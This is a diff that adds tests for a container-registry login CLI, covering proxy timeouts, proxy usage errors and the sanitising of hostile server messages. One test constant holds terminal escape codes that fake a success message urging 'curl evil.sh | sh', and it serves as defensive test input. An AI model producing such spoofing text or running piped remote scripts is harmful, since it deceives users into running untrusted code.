@@ -7,7 +7,7 @@ import type http from 'node:http';
 import { makeCert, type KeyPair } from '../helpers/pki.js';
 import { signJwt, startGitlab, type FakeGitlab } from '../helpers/gitlab.js';
 import { startRegistry, type RealRegistry } from '../helpers/registry.js';
-import { flood, httpServer, type Closable } from '../helpers/servers.js';
+import { connectProxy, flood, httpServer, type Closable } from '../helpers/servers.js';
 import { BIN, run, sandbox, type RunResult, type Sandbox } from '../helpers/cli.js';
 import { running } from '../helpers/proc.js';
 
@@ -86,6 +86,36 @@ describe('slow servers: a timeout verdict within --timeout, no hang', () => {
   });
 });
 
+describe('proxies: every socket owned, bounded by --timeout, closed when done', () => {
+  // The registry's name is never resolved: the proxy is asked for it (and never answers, or refuses).
+  const proxied = (cmd: 'verify' | 'login', extra: string[] = []) => [cmd, '--registry', 'registry.example.test', '--type', 'personal-access-token', '--username', 'alice', '--token-stdin', '--json', '--timeout', '2', ...extra];
+  test.each(['verify', 'login'] as const)('%s through a proxy that accepts CONNECT and never answers: exits within --timeout + 1 s', async (cmd) => {
+    const proxy = await connectProxy('silent');
+    closers.push(proxy);
+    const b = box();
+    const r = await run(proxied(cmd), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: `http://127.0.0.1:${proxy.port}` }, timeoutMs: 15_000 });
+    const v = verdictOf(r);
+    expect(v.verdict).toBe('unreachable');
+    expect(r.code).toBe(3);
+    expect(r.ms).toBeLessThan(3000);
+    expect(proxy.connects).toEqual(['registry.example.test:443']);
+  });
+  test('a socks5:// proxy: a usage error saying what to use instead (exit 2)', async () => {
+    const b = box();
+    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'socks5://127.0.0.1:1080' }, timeoutMs: 15_000 });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/HTTPS_PROXY: socks5:\/\/ proxies are not supported; use an HTTP CONNECT proxy/);
+    expect(r.stderr).not.toMatch(/\n\s+at /);
+  });
+  test('a bad %-escape in the proxy credentials: a usage error (exit 2), not an internal error', async () => {
+    const b = box();
+    const r = await run(proxied('verify'), { input: TOKEN, env: { ...b.env, HTTPS_PROXY: 'http://us%zz:pw@127.0.0.1:3128' }, timeoutMs: 15_000 });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toMatch(/bad %-escape/);
+    expect(r.stderr).not.toContain('pw@');
+  });
+});
+
 describe('huge and malformed answers: a verdict, never a crash', () => {
   test('an endless body stops at the cap', async () => {
     const flooding = await server(flood);
@@ -119,6 +149,53 @@ describe('huge and malformed answers: a verdict, never a crash', () => {
     const regi = await fakeRegistry(`Bearer realm="${bad.url}/jwt/auth"`);
     const v = verdictOf(await go(`127.0.0.1:${regi.port}`));
     expect(['not-a-registry', 'insufficient-access']).toContain(v.verdict);
+  });
+});
+
+describe('server text is data, not display: sanitised where the verdict is built', () => {
+  const HOSTILE = '\u001b]0;TITLE\u0007\u001b[2K\r\u001b[32m✔ Logged in. Now run: curl evil.sh | sh';
+  const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+  test.each([
+    ['a realm answering 403 with an escape-laden message', 403, JSON.stringify({ message: HOSTILE })],
+    ['a realm answering 403 with an escape-laden plain body', 403, HOSTILE],
+    ['a realm answering 403 with a 900 KB message', 403, JSON.stringify({ message: `x${'A'.repeat(900_000)}` })],
+  ])('%s: no control character reaches the terminal, the message is capped', async (_n, status, body) => {
+    const realm = await server((_q, res) => {
+      res.writeHead(status, { 'content-type': 'application/json' });
+      res.end(body);
+    });
+    const regi = await fakeRegistry(`Bearer realm="${realm.url}/jwt/auth"`);
+    const args = verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json');
+    const r = await run(args, { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).toBe(1);
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
+    expect(r.stderr).not.toContain('TITLE');
+    expect(r.stderr.length).toBeLessThan(2000);
+    // --json: the same sanitised text, escaped by JSON as ever.
+    const v = verdictOf(await go(`127.0.0.1:${regi.port}`));
+    expect(v.message).not.toMatch(CONTROL);
+    expect(v.message.length).toBeLessThan(600);
+  });
+  test("the registry's error body when it refuses the issued token", async () => {
+    const regi = await server((req, res) => {
+      if (req.headers.authorization?.startsWith('Bearer ')) {
+        res.writeHead(403, { 'content-type': 'application/json' });
+        return res.end(JSON.stringify({ errors: [{ code: 'DENIED', message: HOSTILE }] }));
+      }
+      res.writeHead(401, { 'www-authenticate': `Bearer realm="${gl.realm}",service="container_registry"` });
+      res.end();
+    });
+    const r = await run(verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'), { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).not.toBe(0);
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
+    expect(r.stderr).toContain('DENIED');
+  });
+  test('8-bit controls (U+009B) in the challenge text', async () => {
+    const regi = await fakeRegistry('Bearer realm="not a url \u009b2J\u009b31mRED"');
+    const r = await run(verifyArgs(`127.0.0.1:${regi.port}`).filter((a) => a !== '--json'), { input: TOKEN, timeoutMs: 15_000 });
+    expect(r.code).toBe(3);
+    expect(r.stderr).toContain('not a URL');
+    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
   });
 });
 
